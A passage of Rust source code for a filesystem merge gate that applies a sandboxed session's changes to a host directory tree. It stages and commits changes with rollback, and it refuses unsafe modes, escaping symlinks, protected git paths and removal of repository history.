    }

    // ---- applying ----

    fn check_quota(&self, steps: &[Step]) -> Result<(), MergeError> {
        let (mut bytes, mut entries) = (0u64, 0u64);
        for s in steps {
            bytes = bytes.saturating_add(s.bytes);
            if s.change != ChangeType::Deleted {
                entries += 1;
            }
            let over = if bytes > self.rules.quota_bytes {
                Some((QuotaKind::Bytes, bytes, self.rules.quota_bytes))
            } else if entries > self.rules.quota_entries {
                Some((QuotaKind::Entries, entries, self.rules.quota_entries))
            } else {
                None
            };
            if let Some((kind, used, allowed)) = over {
                let (mount, path) = self.located(s.fed);
                return Err(MergeError::Quota {
                    mount,
                    path,
                    kind,
                    used,
                    allowed,
                });
            }
        }
        Ok(())
    }

    /// Stages the content of accepted files that was equal to the host's when fed
    /// (a new mode, or a host file under a replaced directory): copied before anything
    /// on the host moves, and checked against what the stream sent.
    fn prepare(&mut self, steps: &mut [Step]) -> Result<(), MergeError> {
        for s in steps.iter_mut() {
            let Make::File { staged, .. } = &mut s.make else {
                continue;
            };
            if staged.is_some() {
                continue;
            }
            let Content::SameAsHost(sha) = self.fed[s.fed].content else {
                unreachable!("only content equal to the host's is left unstaged");
            };
            let id = self.stage_id();
            let tg = &self.targets[s.target];
            let path = &self.fed[s.fed].entry.path;
            let copy = || -> io::Result<bool> {
                let src = File::from(open_beneath(tg.root.as_fd(), path, libc::O_RDONLY)?);
                if !src.metadata()?.is_file() {
                    return Ok(false);
                }
                let mut dst = create_staged(tg, id)?;
                let mut hasher = Sha256::new();
                let mut total = 0u64;
                let mut buf = vec![0u8; CHUNK];
                let mut src = src.take(s.bytes + 1);
                loop {
                    let n = src.read(&mut buf)?;
                    if n == 0 {
                        break;
                    }
                    hasher.update(&buf[..n]);
                    dst.write_all(&buf[..n])?;
                    total += n as u64;
                }
                dst.sync_all()?;
                Ok(total == s.bytes && <[u8; 32]>::from(hasher.finalize()) == sha)
            };
            if !copy().map_err(self.io_error(s.fed, "staging its content from the host file"))? {
                let (mount, path) = self.located(s.fed);
                return Err(MergeError::HostNotAsExpected {
                    mount,
                    path,
                    what: "the host file changed while the merge read it".into(),
                });
            }
            *staged = Some(id);
        }
        Ok(())
    }

    /// Applies `steps` in order; on a failure, undoes what was done.
    fn commit(&mut self, steps: &[Step]) -> Result<(), MergeError> {
        let mut undo = Vec::new();
        for s in steps {
            if let Err(what) = self.apply_step(s, &mut undo) {
                let unrestored = self.roll_back(undo);
                let (mount, path) = self.located(s.fed);
                return Err(MergeError::Commit {
                    mount,
                    path,
                    what,
                    unrestored,
                });
            }
        }
        Ok(())
    }

    fn apply_step(&mut self, s: &Step, undo: &mut Vec<Undo>) -> Result<(), String> {
        let id = self.stage_id();
        let fed = &self.fed[s.fed];
        let tg = &self.targets[s.target];
        let staging = tg.staging.as_ref().expect("an applying gate has staging");
        let path = fed.entry.path.as_str();
        let (parent, name) = split_parent(path);
        let name = c_name(name);
        let dir = open_beneath(tg.root.as_fd(), parent, libc::O_RDONLY | libc::O_DIRECTORY)
            .map_err(|e| format!("opening its directory: {e}"))?;
        let found = stat_at(dir.as_fd(), &name).map_err(|e| format!("examining it: {e}"))?;
        if found.ifmt() != s.expect {
            return Err(format!(
                "the host changed during the merge: {} was expected there, {} was found",
                host_phrase(s.expect),
                host_phrase(found.ifmt())
            ));
        }
        let (uid, gid) = tg.spec.owner;
        if let Make::Chmod { mode } = s.make {
            let d = open_at(dir.as_fd(), &name, libc::O_RDONLY | libc::O_DIRECTORY)
                .map_err(|e| format!("opening it: {e}"))?;
            let old = fstat(d.as_fd())
                .map_err(|e| format!("examining it: {e}"))?
                .st_mode
                & 0o7777;
            fchmod(d.as_fd(), mode).map_err(|e| format!("setting its mode: {e}"))?;
            undo.push(Undo::Chmod {
                target: s.target,
                path: path.to_string(),
                mode: old,
            });
            return Ok(());
        }
        if s.backup {
            let backup = c_name(&format!("b{id}"));
            rename_noreplace(dir.as_fd(), &name, staging.dir.as_fd(), &backup)
                .map_err(|e| format!("moving the host's entry aside: {e}"))?;
            undo.push(Undo::Backup {
                target: s.target,
                path: path.to_string(),
                backup,
            });
        }
        let sd = staging.dir.as_fd();
        let new = match &s.make {
            Make::Nothing => return Ok(()),
            Make::Chmod { .. } => unreachable!("handled above"),
            Make::File { staged, mode } => {
                let new = c_name(&format!("f{}", staged.expect("prepared")));
                let f = open_at(sd, &new, libc::O_RDONLY)
                    .map_err(|e| format!("opening its staged content: {e}"))?;
                fchown(f.as_fd(), uid, gid).map_err(|e| format!("setting its owner: {e}"))?;
                fchmod(f.as_fd(), *mode).map_err(|e| format!("setting its mode: {e}"))?;
                new
            }
            Make::Dir { mode } => {
                let new = c_name(&format!("n{id}"));
                mkdir_at(sd, &new, 0o700).map_err(|e| format!("making it: {e}"))?;
                let d = open_at(sd, &new, libc::O_RDONLY | libc::O_DIRECTORY)
                    .map_err(|e| format!("opening it: {e}"))?;
                fchown(d.as_fd(), uid, gid).map_err(|e| format!("setting its owner: {e}"))?;
                fchmod(d.as_fd(), *mode).map_err(|e| format!("setting its mode: {e}"))?;
                new
            }
            Make::Symlink => {
                let new = c_name(&format!("n{id}"));
                let target = CString::new(fed.entry.symlink_target.as_bytes())
                    .map_err(|_| "its target has a NUL byte".to_string())?;
                symlink_at(&target, sd, &new).map_err(|e| format!("making it: {e}"))?;
                lchown_at(sd, &new, uid, gid).map_err(|e| format!("setting its owner: {e}"))?;
                new
            }
        };
        rename_noreplace(sd, &new, dir.as_fd(), &name)
            .map_err(|e| format!("moving it into place: {e}"))?;
        undo.push(Undo::Created {
            target: s.target,
            path: path.to_string(),
        });
        Ok(())
    }

    /// Undoes `undo` newest first; returns what could not be restored.
    fn roll_back(&mut self, undo: Vec<Undo>) -> Vec<String> {
        let mut failed = Vec::new();
        for u in undo.into_iter().rev() {
            let id = self.stage_id();
            let (target, path) = match &u {
                Undo::Backup { target, path, .. }
                | Undo::Created { target, path }
                | Undo::Chmod { target, path, .. } => (*target, path.clone()),
            };
            let tg = &mut self.targets[target];
            let staging = tg.staging.as_mut().expect("an applying gate has staging");
            let (parent, name) = split_parent(&path);
            let name = c_name(name);
            let dir = open_beneath(tg.root.as_fd(), parent, libc::O_RDONLY | libc::O_DIRECTORY);
            let done = dir.and_then(|dir| match &u {
                // Moved out, not removed: the staging directory goes as a whole.
                Undo::Created { .. } => rename_noreplace(
                    dir.as_fd(),
                    &name,
                    staging.dir.as_fd(),
                    &c_name(&format!("u{id}")),
                ),
                Undo::Backup { backup, .. } => {
                    rename_noreplace(staging.dir.as_fd(), backup, dir.as_fd(), &name)
                }
                Undo::Chmod { mode, .. } => {
                    open_at(dir.as_fd(), &name, libc::O_RDONLY | libc::O_DIRECTORY)
                        .and_then(|d| fchmod(d.as_fd(), *mode))
                }
            });
            if let Err(e) = done {
                let where_ = format!("mount `{}`, {}", tg.spec.mount, quoted(&path));
                failed.push(match &u {
                    Undo::Created { .. } => {
                        format!("{where_}: the merged entry could not be removed ({e})")
                    }
                    Undo::Backup { backup, .. } => {
                        // The original lives on in the staging directory: keep it.
                        staging.keep = true;
                        format!(
                            "{where_}: the original could not be put back ({e}); it is kept at `{}/{}/{}`",
                            tg.spec.host_root.display(),
                            staging.name.to_string_lossy(),
                            backup.to_string_lossy()
                        )
                    }
                    Undo::Chmod { mode, .. } => {
                        format!("{where_}: its mode could not be set back to {mode:o} ({e})")
                    }
                });
            }
        }
        failed
    }
}

/// The judging pass over the whole change set, in stream order.
struct Judge<'g> {
    gate: &'g MergeGate,
    dirs: Vec<HashMap<String, DirState>>,
    bare: HashMap<(usize, String), bool>,
}

impl<'g> Judge<'g> {
    fn new(gate: &'g MergeGate) -> Self {
        Judge {
            gate,
            dirs: vec![HashMap::new(); gate.targets.len()],
            bare: HashMap::new(),
        }
    }

    fn run(mut self) -> Result<(Vec<Step>, Vec<RefusedChange>), MergeError> {
        let gate = self.gate;
        let (mut steps, mut refused) = (Vec::new(), Vec::new());
        for (i, f) in gate.fed.iter().enumerate() {
            let state = match self.judge(i)? {
                Verdict::Skip(state) => state,
                Verdict::Apply(step, state) => {
                    steps.push(step);
                    state
                }
                Verdict::Refuse { reason, root } => {
                    refused.push(RefusedChange {
                        mount: f.entry.mount.clone(),
                        path: f.entry.path.clone(),
                        reason,
                    });
                    is_dir_kind(f.entry.kind).then_some(DirState::Refused(root))
                }
            };
            if let Some(state) = state {
                self.dirs[f.target].insert(f.entry.path.clone(), state);
            }
        }
        Ok((steps, refused))
    }

    fn judge(&mut self, i: usize) -> Result<Verdict, MergeError> {
        let gate = self.gate;
        let f = &gate.fed[i];
        let (t, e) = (f.target, &f.entry);
        let path = e.path.as_str();
        let refuse = |reason: String| -> Result<Verdict, MergeError> {
            Ok(Verdict::Refuse {
                reason,
                root: path.to_string(),
            })
        };
        let nearest = ancestors(path).find_map(|a| self.dirs[t].get(a).map(|s| (a, s.clone())));
        if let Some((_, DirState::Refused(root))) = &nearest {
            return Ok(Verdict::Refuse {
                reason: format!("inside a refused directory: {}", quoted(root)),
                root: root.clone(),
            });
        }
        if is_reserved(path) {
            return refuse(format!(
                "reserved name: `{STAGING_PREFIX}*` names the merge's staging directories"
            ));
        }
        if e.kind == ChangeKind::Special {
            return refuse(special_text(&e.special));
        }

        // What is at the path now, and the mode of the directory it lands in.
        let (parent, _) = split_parent(path);
        let not_as_expected = |what: String| MergeError::HostNotAsExpected {
            mount: e.mount.clone(),
            path: parent.to_string(),
            what,
        };
        let (parent_mode, host) = match &nearest {
            Some((anc, DirState::Kept { hides: true, mode })) => {
                if *anc != parent {
                    return Err(not_as_expected(format!(
                        "it is not in the merged tree: {} is new or replaces the host's, and the change set has no entry for {}",
                        quoted(anc),
                        quoted(parent)
                    )));
                }
                (*mode, Host::Absent)
            }
            _ => {
                let Some((host_parent_mode, host)) =
                    host_lookup(gate.targets[t].root.as_fd(), path)
                        .map_err(gate.io_error(i, "examining it on the host"))?
                else {
                    return Err(not_as_expected(
                        "the host has no directory there (it is missing, a symlink or not a directory) and no entry of the change set makes one".into(),
                    ));
                };
                let mode = match &nearest {
                    Some((anc, DirState::Kept { mode, .. })) if *anc == parent => *mode,
                    _ => host_parent_mode,
                };
                (mode, host)
            }
        };

        // Modes: no set-id or sticky bit the host did not already have, and group or
        // other write only where the host already grants it.
        let is_dir = is_dir_kind(e.kind);
        let mut applied = 0;
        if matches!(e.kind, ChangeKind::File) || is_dir {
            let host_mode = match (&host, is_dir) {
                (Host::Dir { mode }, true) | (Host::File { mode }, false) => *mode,
                _ => 0,
            };
            let special = e.mode & 0o7000;
            // A directory keeps set-id and sticky bits the host one has, and the
            // setgid bit its parent passes down, as the kernel does on mkdir.
            let allowed = if is_dir {
                (host_mode & 0o7000) | (parent_mode & libc::S_ISGID)
            } else {
                0
            };
            if special & !allowed != 0 {
                return refuse(format!(
                    "mode {:o} has set-id or sticky bits",
                    e.mode & 0o7777
                ));
            }
            applied = special | (e.mode & 0o755) | (e.mode & 0o022 & (parent_mode | host_mode));
        }
        if e.kind == ChangeKind::Symlink {
            if let Some(why) = symlink_refusal(path, &e.symlink_target) {
                return refuse(why);
            }
        }

        // What the change does to the host; unchanged entries are skipped.
        let downgrade_opaque = e.kind == ChangeKind::OpaqueDir
            && matches!(host, Host::Dir { .. })
            && gate
                .covered(t, path)
                .map_err(gate.io_error(i, "reading the host directory"))?;
        let file = |staged| Make::File {
            staged,
            mode: applied,
        };
        let staged = match f.content {
            Content::Staged(id) => Some(id),
            _ => None,
        };
        let (change, make) = match (e.kind, &host) {
            (ChangeKind::Delete, Host::Absent) => return Ok(Verdict::Skip(None)),
            (ChangeKind::Delete, _) => (ChangeType::Deleted, Make::Nothing),
            (ChangeKind::File, Host::Absent) => (ChangeType::Added, file(staged)),
            (ChangeKind::File, Host::File { mode }) => {
                if matches!(f.content, Content::SameAsHost(_)) && applied == *mode {
                    return Ok(Verdict::Skip(None));
                }
                (ChangeType::Modified, file(staged))
            }
            (ChangeKind::File, _) => (ChangeType::Replaced, file(staged)),
            (ChangeKind::Symlink, Host::Absent) => (ChangeType::Added, Make::Symlink),
            (ChangeKind::Symlink, Host::Symlink { target }) => {
                if target == e.symlink_target.as_bytes() {
                    return Ok(Verdict::Skip(None));
                }
                (ChangeType::Modified, Make::Symlink)
            }
            (ChangeKind::Symlink, _) => (ChangeType::Replaced, Make::Symlink),
            (_, Host::Absent) => (ChangeType::Added, Make::Dir { mode: applied }),
            (_, Host::Dir { mode }) if e.kind == ChangeKind::Dir || downgrade_opaque => {
                let kept = DirState::Kept {
                    hides: false,
                    mode: applied,
                };
                if applied == *mode {
                    return Ok(Verdict::Skip(Some(kept)));
                }
                (ChangeType::Modified, Make::Chmod { mode: applied })
            }
            _ => (ChangeType::Replaced, Make::Dir { mode: applied }),
        };
        let backup = host != Host::Absent && !matches!(make, Make::Chmod { .. });
        let removes_dir = backup && matches!(host, Host::Dir { .. });
        let plain_dir = matches!(make, Make::Dir { .. } | Make::Chmod { .. })
            && (e.kind == ChangeKind::Dir || !removes_dir);

        if let Some(why) = self.protection(i, plain_dir)? {
            return refuse(why);
        }
        if matches!(change, ChangeType::Deleted | ChangeType::Replaced) {
            if let Some(why) = history_removal(path) {
                return refuse(why);
            }
        }
        if removes_dir {
            if let Some(why) = gate.scan_removal(t, path) {
                return refuse(why);
            }
        }
        let state = is_dir.then_some(DirState::Kept {
            hides: change != ChangeType::Modified,
            mode: applied,
        });
        let kind = match e.kind {
            ChangeKind::File => "file",
            ChangeKind::Symlink => "symlink",
            ChangeKind::Delete => "-",
            _ => "dir",
        };
        let step = Step {
            target: t,
            fed: i,
            change,
            kind,
            expect: host.ifmt(),
            backup,
            make,
            bytes: if e.kind == ChangeKind::File {
                e.size
            } else {
                0
            },
        };
        Ok(Verdict::Apply(step, state))
    }

    /// Why the change at entry `i` touches a protected path, if it does.
    fn protection(&mut self, i: usize, plain_dir: bool) -> Result<Option<String>, MergeError> {
        let f = &self.gate.fed[i];
        let path = f.entry.path.as_str();
        if let Some(why) = self.gate.protected_by_rule(Path::new(path), !plain_dir) {
            return Ok(Some(why));
        }
        // Bare repositories: each directory above the entry (the root included).
        let splits = path
            .match_indices('/')
            .map(|(at, _)| at)
            .collect::<Vec<_>>();
        for at in std::iter::once(None).chain(splits.into_iter().map(Some)) {
            let (dir, rel) = match at {
                None => ("", path),
                Some(at) => (&path[..at], &path[at + 1..]),
            };
            if is_repo_control(rel) && self.is_bare(f.target, dir, i)? {
                return Ok(Some(format!(
                    "protected path: {} is a bare git repository (it has HEAD, objects and refs), and git reads config and runs hooks from {} there",
                    if dir.is_empty() { "the grant root".to_string() } else { quoted(dir) },
                    quoted(rel)
                )));
            }
        }
        Ok(None)
    }

    /// Could git take `dir` for a git directory: a `HEAD` that is a file or a symlink,
    /// and `objects` and `refs` of any kind, on the host or made by the change set?
    /// git accepts a `HEAD` symlink, and follows `objects` and `refs` when they are
    /// symlinks (or finds them through `commondir`, refused wherever it is: see
    /// [`default_protected_paths`]). Host and change set both count: the union
    /// over-protects, it never under-protects.
    fn is_bare(&mut self, t: usize, dir: &str, i: usize) -> Result<bool, MergeError> {
        if let Some(&b) = self.bare.get(&(t, dir.to_string())) {
            return Ok(b);
        }
        let gate = self.gate;
        // `head`: a file or a symlink will do; otherwise anything that exists.
        let has = |name: &str, head: bool| -> Result<bool, MergeError> {
            let p = if dir.is_empty() {
                name.to_string()
            } else {
                format!("{dir}/{name}")
            };
            let in_stream = gate.targets[t]
                .index
                .get(&p)
                .map(|&j| gate.fed[j].entry.kind);
            let stream = match in_stream {
                Some(ChangeKind::Delete) | None => false,
                Some(k) if head => matches!(k, ChangeKind::File | ChangeKind::Symlink),
                Some(_) => true,
            };
            let host = host_lookup(gate.targets[t].root.as_fd(), &p)
                .map_err(gate.io_error(i, "examining the host tree"))?;
            let on_host = match host {
                None | Some((_, Host::Absent)) => false,
                Some((_, Host::File { .. } | Host::Symlink { .. })) => true,
                Some(_) => !head,
            };
            Ok(stream || on_host)
        };
        let bare = has("HEAD", true)? && has("objects", false)? && has("refs", false)?;
        self.bare.insert((t, dir.to_string()), bare);
        Ok(bare)
    }
}

impl MergeGate {
    /// The first protected-path rule `path` falls under (with `ancestors`, also the
    /// rules it leads to), as a refusal reason.
    fn protected_by_rule(&self, path: &Path, ancestors: bool) -> Option<String> {
        for (c, rule) in self.compiled.iter().zip(&self.rules.protected) {
            let ask = match rule.decision {
                ProtectDecision::Deny => "",
                ProtectDecision::Ask => {
                    " (ask: the merge gate does not ask approvers yet, so refused)"
                }
            };
            if c.matchers.iter().any(|m| m.is_match(path)) {
                return Some(format!(
                    "protected path: `{}` ({}): {}{ask}",
                    rule.glob, rule.source, rule.reason
                ));
            }
            if ancestors && c.ancestors.iter().any(|m| m.is_match(path)) {
                return Some(format!(
                    "protected path: it leads to `{}` ({}: {}), so only a plain directory may be merged here{ask}",
                    rule.glob, rule.source, rule.reason
                ));
            }
        }
        None
    }

    /// Why removing the host directory at `path` is refused: a protected path, a mount
    /// point inside, or too large to check.
    fn scan_removal(&self, t: usize, path: &str) -> Option<String> {
        let root = self.targets[t].root.as_fd();
        let mut budget = MAX_SCAN;
        let mut rel = path.as_bytes().to_vec();
        let found = open_beneath(root, path, libc::O_RDONLY | libc::O_DIRECTORY)
            .and_then(|dir| self.scan(dir.as_fd(), &mut rel, &mut budget));
        match found {
            Ok(None) => None,
            Ok(Some(why)) => Some(format!("removes a protected path: {why}")),
            Err(e) => Some(format!(
                "cannot check: reading what it would remove failed at `{}`: {e}",
                shown(&String::from_utf8_lossy(&rel))
            )),
        }
    }

    fn scan(
        &self,
        dir: BorrowedFd<'_>,
        rel: &mut Vec<u8>,
        budget: &mut usize,
    ) -> io::Result<Option<String>> {
        let entries = list_dir_typed(dir)?;
        // As in `is_bare`: a `HEAD` file or symlink, `objects` and `refs` of any kind.
        let has = |n: &[u8], types: &[u8]| {
            entries
                .iter()
                .any(|(name, ty)| name == n && (types.is_empty() || types.contains(ty)))
        };
        let bare = has(b"HEAD", &[libc::DT_REG, libc::DT_LNK])
            && has(b"objects", &[])
            && has(b"refs", &[]);
        let shown_rel = |rel: &[u8]| quoted(&String::from_utf8_lossy(rel));
        for (name, ty) in &entries {
            if *budget == 0 {
                return Ok(Some(format!(
                    "it holds more than {MAX_SCAN} entries, too many to check for protected paths"
                )));
            }
            *budget -= 1;
            let len = rel.len();
            rel.push(b'/');
            rel.extend_from_slice(name);
            if let Some(why) = self.protected_by_rule(Path::new(OsStr::from_bytes(rel)), true) {
                return Ok(Some(format!("{} would go with it ({why})", shown_rel(rel))));
            }
            if bare && std::str::from_utf8(name).is_ok_and(is_repo_control) {
                return Ok(Some(format!(
                    "{} would go with it (its directory is a bare git repository)",
                    shown_rel(rel)
                )));
            }
            if *ty == libc::DT_DIR {
                let sub = open_at(dir, &c_name_bytes(name), libc::O_RDONLY | libc::O_DIRECTORY)?;
                if is_mount_root(sub.as_fd())? {
                    return Ok(Some(format!(
                        "{} is a mount point; a merge does not remove mounts",
                        shown_rel(rel)
                    )));
                }
                if let Some(why) = self.scan(sub.as_fd(), rel, budget)? {
                    return Ok(Some(why));
                }
            }
            rel.truncate(len);
        }
        Ok(None)
    }

    /// Does the change set have an entry for everything in the host directory `path`
    /// (recursively through plain directory entries)? Then an opaque directory there
    /// hides nothing and merges like a plain one: merging a session again is a no-op.
    fn covered(&self, t: usize, path: &str) -> io::Result<bool> {
        let dir = open_beneath(
            self.targets[t].root.as_fd(),
            path,
            libc::O_RDONLY | libc::O_DIRECTORY,
        )?;
        let mut budget = MAX_SCAN;
        self.covered_in(t, dir.as_fd(), path, &mut budget)
    }

    fn covered_in(
        &self,
        t: usize,
        dir: BorrowedFd<'_>,
        path: &str,
        budget: &mut usize,
    ) -> io::Result<bool> {
        for (name, ty) in list_dir_typed(dir)? {
            if *budget == 0 {
                return Ok(false);
            }
            *budget -= 1;
            let Ok(name) = std::str::from_utf8(&name) else {
                return Ok(false);
            };
            let child = format!("{path}/{name}");
            let Some(&j) = self.targets[t].index.get(&child) else {
                return Ok(false);
            };
            if self.fed[j].entry.kind == ChangeKind::Dir && ty == libc::DT_DIR {
                let sub = open_at(dir, &c_name(name), libc::O_RDONLY | libc::O_DIRECTORY)?;
                if !self.covered_in(t, sub.as_fd(), &child, budget)? {
                    return Ok(false);
                }
            }
        }
        Ok(true)
    }
}

impl Staging {
    fn create(root: &OwnedFd) -> io::Result<Staging> {
        for _ in 0..16 {
            let mut random = [0u8; 8];
            fill_random(&mut random)?;
            let name = c_name(&format!("{STAGING_PREFIX}{}", hex::encode(random)));
            match mkdir_at(root.as_fd(), &name, 0o700) {
                Ok(()) => {}
                Err(e) if e.raw_os_error() == Some(libc::EEXIST) => continue,
                Err(e) => return Err(e),
            }
            let staging = Staging {
                root: root.try_clone()?,
                dir: open_at(root.as_fd(), &name, libc::O_RDONLY | libc::O_DIRECTORY)?,
                name,
                keep: false,
            };
            // The umask may have taken bits mkdir was not given anyway; make it exact.
            fchmod(staging.dir.as_fd(), 0o700)?;
            return Ok(staging);
        }
        Err(io::Error::new(
            io::ErrorKind::AlreadyExists,
            "no free staging directory name",
        ))
    }
}

// ---- rules ----

/// A protected path compiled: its matchers, and the literal directories leading to it.
#[derive(Debug)]
struct CompiledRule {
    /// The glob, and for `dir/**` also `dir` itself.
    matchers: Vec<GlobMatcher>,
    /// The glob's literal leading directories (`**/.git`, `**/.git/hooks` for
    /// `**/.git/hooks/**`): only a plain directory may be merged there, since anything
    /// else would redirect or replace what the glob protects.
    ancestors: Vec<GlobMatcher>,
}

fn path_glob(pattern: &str) -> Result<GlobMatcher, String> {
    GlobBuilder::new(pattern)
        .literal_separator(true)
        .backslash_escape(true)
        .build()
        .map(|g| g.compile_matcher())
        .map_err(|e| format!("`{pattern}` does not compile: {e}"))
}

fn compile_rule(glob: &str) -> Result<CompiledRule, String> {
    if glob.is_empty() {
        return Err("the glob is empty".into());
    }
    if glob.starts_with('/') {
        return Err(format!(
            "`{glob}` must be relative to the grant's root (no leading `/`)"
        ));
    }
    let parts: Vec<&str> = glob.split('/').collect();
    if parts.contains(&"..") {
        return Err(format!("`{glob}` has a `..` component"));
    }
    let mut matchers = vec![path_glob(glob)?];
    if let Some(dir) = glob.strip_suffix("/**").filter(|d| !d.is_empty()) {
        matchers.push(path_glob(dir)?);
    }
    let lead = parts.iter().take_while(|p| **p == "**").count();
    let mut ancestors = Vec::new();
    for end in lead..parts.len().saturating_sub(1) {
        if !is_literal(parts[end]) {
            break;
        }
        ancestors.push(path_glob(&parts[..=end].join("/"))?);
    }
    Ok(CompiledRule {
        matchers,
        ancestors,
    })
}

fn is_literal(component: &str) -> bool {
    !component.is_empty() && !component.contains(['*', '?', '[', ']', '{', '}', '\\'])
}

/// Is `rel` (relative to a repository directory) something git reads commands from?
fn is_repo_control(rel: &str) -> bool {
    let first = rel.split('/').next().unwrap_or_default();
    REPO_CONTROL_FILES.contains(&rel) || REPO_CONTROL_DIRS.contains(&first)
}

/// Why removing or replacing the host's `path` would lose a repository's history:
/// `.git/HEAD`, `.git/refs`, `.git/packed-refs`, and anything in `.git/objects`.
/// git itself only removes objects when it repacks or prunes, which a session does not
/// need to merge back (the host keeps the loose copies); an agent that deletes them
/// leaves the host user a repository that no longer works, and the policy's denials
/// of `reset --hard` and `clean` would mean nothing.
fn history_removal(path: &str) -> Option<String> {
    let parts: Vec<&str> = path.split('/').collect();
    let git = parts.iter().rposition(|p| *p == ".git")?;
    let what = match &parts[git + 1..] {
        ["HEAD"] => "the repository's HEAD",
        ["refs"] => "the repository's refs",
        ["packed-refs"] => "the repository's packed refs",
        ["objects", ..] => "the repository's objects",
        _ => return None,
    };
    Some(format!(
        "git history: removing or replacing {what} would lose commits on the host; a merge only adds to them"
    ))
}

/// Why the symlink at `path` to `target` is refused: it must stay inside the grant,
/// counted lexically from the link's directory.
fn symlink_refusal(path: &str, target: &str) -> Option<String> {
    let t = quoted(target);
    if target.is_empty() {
        return Some("symlink target: it is empty".into());
    }
    if target.contains('\0') || target.len() >= MAX_PATH {
        return Some("symlink target: it has a NUL byte or is too long".into());
    }
    if target.starts_with('/') {
        return Some(format!("symlink target: {t} is absolute"));
    }
    let mut depth = path.matches('/').count();
    let mut named = false;
    for c in target.split('/') {
        match c {
            "" | "." => {}
            ".." if named => {
                // `x/..` is not `.` when `x` is itself a link: resolving through one
                // could climb out where counting says it stays inside.
                return Some(format!(
                    "symlink target: {t} has `..` after a name, which a symlink on the way could take outside the grant"
                ));
            }
            ".." if depth == 0 => {
                return Some(format!("symlink target: {t} leads outside the grant"));
            }
            ".." => depth -= 1,
            _ => {
                named = true;
                depth += 1;
            }
        }
    }
    None
}

/// A stream's `special` text, safe for one line.
fn special_text(special: &str) -> String {
    let s = shown(special.trim());
    if s.is_empty() {
        return "not a file, directory or symlink".into();
    }
    s.chars().take(120).collect()
}

fn check_path(path: &str) -> Result<(), &'static str> {
    if path.is_empty() {
        return Err("it is empty");
    }
    if path.len() > MAX_PATH {
        return Err("it is longer than 4096 bytes");
    }
    if path.contains('\0') {
        return Err("it has a NUL byte");
    }
    if path.starts_with('/') {
        return Err("it is absolute");
    }
    for c in path.split('/') {
        match c {
            "" => return Err("it has an empty component (a leading, trailing or doubled `/`)"),
            "." | ".." => return Err("it has a `.` or `..` component"),
            c if c.len() > MAX_NAME => return Err("it has a component longer than 255 bytes"),
            _ => {}
        }
    }
    Ok(())
}

fn is_reserved(path: &str) -> bool {
    path.starts_with(STAGING_PREFIX)
}

fn is_dir_kind(k: ChangeKind) -> bool {
    matches!(k, ChangeKind::Dir | ChangeKind::OpaqueDir)
}

/// `a/b/c` → `a/b`, `a` (nearest first; the root is not included).
fn ancestors(path: &str) -> impl Iterator<Item = &str> {
    std::iter::successors(path.rsplit_once('/').map(|(p, _)| p), |p| {
        p.rsplit_once('/').map(|(p, _)| p)
    })
}

/// `a/b/c` → (`a/b`, `c`); `a` → (``, `a`).
fn split_parent(path: &str) -> (&str, &str) {
    path.rsplit_once('/').unwrap_or(("", path))
}

fn kind_phrase(k: ChangeKind) -> &'static str {
    match k {
        ChangeKind::File => "a file",
        ChangeKind::Symlink => "a symlink",
        ChangeKind::Delete => "a deletion",
        ChangeKind::Special => "a special file",
        ChangeKind::Dir | ChangeKind::OpaqueDir => "a directory",
    }
}

fn host_phrase(ifmt: u32) -> &'static str {
    match ifmt {
        0 => "nothing",
        libc::S_IFDIR => "a directory",
        libc::S_IFREG => "a file",
        libc::S_IFLNK => "a symlink",
        _ => "a special file",
    }
}

/// A path as it may reach a terminal: controls, bidi overrides and invisible
/// characters escaped, as the approval prompt does.
fn shown(s: &str) -> String {
    crate::approver_channels::sanitize_for_terminal(s)
}

fn quoted(s: &str) -> String {
    format!("`{}`", shown(s))
}

fn human_bytes(n: u64) -> String {
    const UNITS: [&str; 4] = ["KiB", "MiB", "GiB", "TiB"];
    if n < 1024 {
        return format!("{n} B");
    }
    let mut v = n as f64 / 1024.0;
    let mut unit = 0;
    while v >= 1024.0 && unit < UNITS.len() - 1 {
        v /= 1024.0;
        unit += 1;
    }
    format!("{v:.1} {}", UNITS[unit])
}

fn quota_text(kind: &QuotaKind, used: &u64, allowed: &u64) -> String {
    match kind {
        QuotaKind::Bytes => format!(
            "{} ({used} bytes) of changed file content, {} ({allowed} bytes) allowed",
            human_bytes(*used),
            human_bytes(*allowed)
        ),
        QuotaKind::Entries => {
            format!("{used} changed files, directories and symlinks, {allowed} allowed")
        }
        QuotaKind::StreamEntries => {
            format!("{used} entries in the change stream, at most {allowed} accepted")
        }
        QuotaKind::PathBytes => format!(
            "{} of paths in the change stream, at most {} accepted",
            human_bytes(*used),
            human_bytes(*allowed)
        ),
    }
}

fn last_entry(mount: &str, path: &str) -> String {
    if path.is_empty() {
        "no entry came before it".into()
    } else {
        format!(
            "after {} in mount `{mount}`, which is not a file",
            quoted(path)
        )
    }
}

fn rollback_text(unrestored: &[String]) -> String {
    if unrestored.is_empty() {
        "everything it had done was undone: the host tree was left as it was before this merge"
            .into()
    } else {
        format!(
            "undoing it failed too, so the host tree is NOT as before: {}",
            unrestored.join("; ")
        )
    }
}

// ---- host access: descriptors and *at() calls only ----

fn c_name(s: &str) -> CString {
    CString::new(s).expect("paths were checked for NUL bytes")
}

fn c_name_bytes(s: &[u8]) -> CString {
    CString::new(s).expect("directory entries have no NUL")
}

fn cvt(rc: libc::c_int) -> io::Result<()> {
    if rc < 0 {
        Err(io::Error::last_os_error())
    } else {
        Ok(())
    }
}

/// Opens the grant root: a directory, not a symlink.
fn open_root(path: &Path) -> io::Result<OwnedFd> {
    let c = CString::new(path.as_os_str().as_bytes())
        .map_err(|_| io::Error::new(io::ErrorKind::InvalidInput, "the path has a NUL byte"))?;
    // SAFETY: open with a NUL-terminated path; the result is checked.
    let fd = unsafe {
        libc::open(
            c.as_ptr(),
            libc::O_RDONLY | libc::O_DIRECTORY | libc::O_NOFOLLOW | libc::O_CLOEXEC,
        )
    };
    cvt(fd)?;
    // SAFETY: open returned a new descriptor we own.
    Ok(unsafe { OwnedFd::from_raw_fd(fd) })
}

/// Opens `path` below `root` (`""`: the root itself) following no symlink and never
/// leaving `root`.
fn open_beneath(root: BorrowedFd<'_>, path: &str, flags: libc::c_int) -> io::Result<OwnedFd> {
    let c = CString::new(if path.is_empty() { "." } else { path })
        .map_err(|_| io::Error::new(io::ErrorKind::InvalidInput, "the path has a NUL byte"))?;
    // SAFETY: open_how is plain data; zeroed is a valid value before we fill it.
    let mut how: libc::open_how = unsafe { std::mem::zeroed() };
    how.flags = (flags | libc::O_NOFOLLOW | libc::O_CLOEXEC) as u64;
